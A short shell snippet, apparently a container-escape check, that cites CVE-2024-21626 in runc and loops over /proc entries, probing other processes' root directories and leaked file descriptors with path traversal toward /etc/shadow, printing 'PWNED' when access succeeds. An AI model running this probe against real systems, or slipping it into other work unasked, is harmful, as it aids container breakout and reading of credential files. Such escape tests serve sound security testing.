# tries: reach the outside through /proc/PID/root and descriptors left open
# from: CVE-2024-21626, runc's leaked descriptor
for p in /proc/[0-9]*; do ls $p/root/root > /dev/null 2>&1 && echo PWNED; for f in $p/fd/*; do ls "$f/../../../../../etc/shadow" > /dev/null 2>&1 && echo PWNED; done; done
